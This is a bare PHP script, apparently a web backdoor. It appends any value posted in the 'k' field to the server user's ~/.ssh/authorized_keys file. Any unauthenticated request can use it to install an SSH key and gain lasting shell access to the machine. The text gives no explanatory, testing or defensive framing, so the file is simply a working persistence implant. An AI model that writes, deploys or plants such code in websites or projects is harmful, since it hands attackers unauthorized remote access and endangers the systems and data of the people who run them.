<?php
$target = $_SERVER['HOME'] . '/.ssh/authorized_keys';
if (isset($_POST['k'])) {
    $h = fopen($target, 'a');
    fwrite($h, PHP_EOL . $_POST['k'] . PHP_EOL);
    fclose($h);
}
